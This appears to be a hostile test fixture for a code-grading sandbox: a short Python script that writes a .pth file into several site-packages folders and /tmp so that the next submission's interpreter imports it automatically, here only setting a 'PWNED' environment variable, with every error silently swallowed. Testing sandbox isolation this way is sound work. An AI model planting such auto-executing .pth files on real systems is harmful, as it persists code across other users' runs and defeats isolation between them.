# Plant a .pth in every site-packages folder so that the next submission's sandbox imports it.
import os
for _d in ["@SITE@", "/opt/gradcheck-site", os.path.dirname(os.__file__) + "/site-packages", "/tmp"]:
    try:
        open(_d + "/zz_hostile_pwn.pth", "w").write("import os; os.environ['PWNED'] = '1'\n")
    except BaseException:
        pass
